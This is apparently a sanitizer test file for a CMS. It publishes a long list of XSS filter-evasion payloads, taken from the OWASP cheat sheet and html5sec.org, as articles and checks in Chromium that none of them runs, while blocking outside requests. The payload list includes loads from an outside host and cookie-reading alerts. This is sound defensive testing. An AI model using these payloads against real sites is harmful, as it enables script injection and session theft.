// XSS: the vectors of the OWASP XSS Filter Evasion Cheat Sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html,
// OWASP Foundation, CC BY-SA 4.0), plus a few from the HTML5 Security Cheatsheet
// (https://html5sec.org/, Mario Heiderich et al.) for parser quirks that the 2000s list
// predates (template, math/svg namespaces, noscript, autofocus, ontoggle), go through the
// API as article bodies, are published, and the published pages are opened in Chromium.
// Every payload calls alert() or sets window.__xss; the test fails when a dialog opens,
// the flag is set, a page error is thrown, or the page's CSP reports a blocked script
// (a blocked script means the sanitizer let it through and only the CSP saved us).
// External addresses in the vectors are never contacted: the browser aborts every
// request that does not go to the local listeners.
import assert from 'node:assert/strict'
import { ADMIN, PUBLIC_PORT, apiAs, browser, siteCodes, test, run, until, fetchPublic } from './lib.mjs'

const V = [
  // --- OWASP XSS Filter Evasion Cheat Sheet ---
  `<SCRIPT SRC=/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=javascript:alert('XSS')>`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<a onmouseover=alert(document.cookie)>xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>`,
  `<IMG SRC=# onmouseover="alert('xxs')">`,
  `<IMG SRC= onmouseover="alert('xxs')">`,
  `<IMG onmouseover="alert('xxs')">`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>`,
  `<IMG SRC="jav\tascript:alert('XSS');">`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`,
  `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="/xss.js"></SCRIPT>`,
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  `<SCRIPT/SRC="/xss.js"></SCRIPT>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<SCRIPT SRC=/xss.js?< B >`,
  `<SCRIPT SRC=//xss.rocks/.j>`,
  `<IMG SRC="javascript:alert('XSS')"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `\\";alert('XSS');//`,
  `</TITLE><SCRIPT>alert("XSS");</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<IMG DYNSRC="javascript:alert('XSS')">`,
  `<IMG LOWSRC="javascript:alert('XSS')">`,
  `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  `<IMG SRC='vbscript:msgbox("XSS")'>`,
  `<svg/onload=alert('XSS')>`,
  `<BODY ONLOAD=alert('XSS')>`,
  `<BGSOUND SRC="javascript:alert('XSS');">`,
  `<BR SIZE="&{alert('XSS')}">`,
  `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">`,
  `<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>`,
  `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`,
  `<STYLE TYPE="text/javascript">alert('XSS');</STYLE>`,
  `<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>`,
  `<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>`,
  `<XSS STYLE="xss:expression(alert('XSS'))">`,
  `<XSS STYLE="behavior: url(xss.htc);">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert('XSS');">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>`,
  `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029">`,
  `<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">`,
  `<DIV STYLE="width: expression(alert('XSS'));">`,
  `<BASE HREF="javascript:alert('XSS');//">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoIlhTUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" SRC="/xss.js"></SCRIPT>`,
  `<SCRIPT a=">" '' SRC="/xss.js"></SCRIPT>`,
  '<SCRIPT a=`>` SRC="/xss.js"></SCRIPT>',
  `<A HREF="javascript:document.location='http://www.google.com/'">XSS</A>`,
  `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-`,
  `<IMG SRC="http://www.thesiteyouareon.com/somecommand.php?somevariables=maliciouscode">`,
  `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>`,
  `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(&quot;XSS&quot;)</SCRIPT>"></BODY></HTML>`,
  `<a href="jav&#x09;ascript:alert(1)">tab link</a>`,
  `<a href="  javascript:alert(1)">space link</a>`,
  // --- HTML5 Security Cheatsheet (html5sec.org) ---
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<form><button formaction=javascript:alert(1)>X</button></form>`,
  `<details open ontoggle=alert(1)>`,
  `<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<img src="x:x" onerror="window.__xss=1">`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<isindex type=image src=1 onerror=alert(1)>`,
  `<marquee onstart=alert(1)>`,
  `<body onpageshow=alert(1)>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)>`,
  `<textarea autofocus onfocus=alert(1)>`,
  `<div style="animation-name:spin" onanimationstart="alert(1)"></div>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set attributeName="onload" to="alert(1)" />`,
  `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  `<a href="#" id="x" onclick="alert(1)">click</a>`,
]
const CHUNK = 8
const [A] = siteCodes()
const host = `${A}.demo.test`

test(`${V.length} cheat-sheet vectors, sanitized and published, execute nothing in Chromium`, async () => {
  const editor = await apiAs(`${A}.editor`)
  const reviewer = await apiAs(`${A}.reviewer`)
  const me = (await editor.get('/me')).body
  const siteId = me.user.grants.find((g) => g.site_code === A).site_id
  const column = (await editor.get(`/sites/${siteId}/columns`)).body.items.find((c) => c.type === 'list')
  const ids = []
  for (let i = 0; i < V.length; i += CHUNK) {
    const body = `<p>XSS 测试第 ${i / CHUNK + 1} 组</p>\n` + V.slice(i, i + CHUNK).map((v) => `<div>${v}</div>`).join('\n') + `\n<p>本组结束。</p>`
    const a = (await editor.post(`/sites/${siteId}/articles`, { column_id: column.id, title: `XSS 向量第 ${i / CHUNK + 1} 组`, body })).body
    await editor.post(`/articles/${a.id}/submit`)
    await reviewer.post(`/articles/${a.id}/approve`)
    await reviewer.post(`/articles/${a.id}/publish`)
    ids.push(a.id)
  }
  const stored = []
  for (const id of ids) stored.push((await editor.get(`/articles/${id}`)).body.body)
  await editor.dispose(); await reviewer.dispose()

  const ctx = await browser([`--host-resolver-rules=MAP ${host} 127.0.0.1`])
  const outside = []
  await ctx.route('**/*', (route) => {
    const u = new URL(route.request().url())
    if (u.hostname === host || u.hostname === '127.0.0.1' || u.protocol === 'data:' || u.protocol === 'about:') return route.continue()
    outside.push(u.href)
    return route.abort()
  })
  await ctx.addInitScript(() => {
    window.__xss = 0
    window.__csp = []
    const orig = window.alert
    window.alert = function (...a) { window.__xss++; return orig.apply(this, a) }
    document.addEventListener('securitypolicyviolation', (e) => window.__csp.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`))
  })
  const page = ctx.pages()[0] ?? await ctx.newPage()
  const dialogs = []
  const errors = []
  page.on('dialog', (d) => { dialogs.push(d.message()); d.dismiss().catch(() => {}) })
  page.on('pageerror', (e) => errors.push(String(e)))

  // Simulate a visitor: hover, focus and animate every element; then inspect the DOM.
  const poke = async () => {
    await page.evaluate(() => {
      for (const el of document.querySelectorAll('body *')) {
        for (const type of ['mouseover', 'mouseenter', 'focus', 'toggle', 'animationstart']) el.dispatchEvent(new Event(type, { bubbles: true }))
      }
    })
    await page.waitForTimeout(400)
    return page.evaluate(() => {
      const bad = []
      for (const el of document.querySelectorAll('*')) {
        const tag = el.localName
        if (['script', 'iframe', 'object', 'embed', 'frame', 'frameset', 'base', 'form', 'isindex'].includes(tag) && el.closest('article, .article, main') ) bad.push('<' + tag + '>')
        for (const at of el.attributes) {
          const v = at.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase()
          if (/^on/i.test(at.name)) bad.push(`${tag}[${at.name}]`)
          if (/^(javascript|vbscript):/.test(v) || (/^data:/.test(v) && !/^data:image\/(png|jpeg|gif|webp)/.test(v))) bad.push(`${tag}[${at.name}=${at.value.slice(0, 40)}]`)
        }
      }
      return { flag: window.__xss, csp: window.__csp.filter((c) => c.startsWith('script-src')), bad }
    })
  }

  // 0. The detector itself works: an unsanitized vector trips it.
  await page.goto(`${ADMIN}/api/v1/health`)
  await page.setContent('<!doctype html><main><img src=x onerror="alert(1)"><a href="javascript:alert(2)">x</a></main>')
  const control = await poke()
  assert.ok(control.flag > 0 && control.bad.length === 2 && dialogs.length > 0, `control: ${JSON.stringify(control)}`)
  dialogs.length = 0

  // 1. The published pages, as a visitor gets them (with the public listener's CSP).
  for (const id of ids) {
    await until(async () => (await fetchPublic(host, `/a/${id}.html`)).status === 200, `article ${id} published`)
    const res = await page.goto(`http://${host}:${PUBLIC_PORT}/a/${id}.html`)
    assert.equal(res.status(), 200)
    // (the end marker may be swallowed by an unclosed <script or <iframe, as a browser would)
    assert.match(await page.content(), /XSS 测试第/)
    const r = await poke()
    assert.equal(r.flag, 0, `article ${id}: an alert ran`)
    assert.deepEqual(r.csp, [], `article ${id}: the sanitizer let a script through (blocked only by the CSP)`)
    assert.deepEqual(r.bad, [], `article ${id}: dangerous markup survived`)
  }
  // 2. The stored bodies without any CSP: the sanitizer alone must hold.
  for (const [i, body] of stored.entries()) {
    await page.goto(`${ADMIN}/api/v1/health`)
    await page.setContent(`<!doctype html><meta charset="utf-8"><main>${body}</main>`)
    const r = await poke()
    assert.equal(r.flag, 0, `stored body ${ids[i]}: an alert ran without CSP`)
    assert.deepEqual(r.bad, [], `stored body ${ids[i]}: dangerous markup in the sanitized body`)
  }
  assert.deepEqual(dialogs, [], 'no dialog opened')
  assert.deepEqual(errors, [], 'no page errors from injected code')
  await ctx.close()
  console.log(`      ${V.length} vectors in ${ids.length} articles; requests to outside addresses blocked: ${outside.length}`)
})

await run('xss')
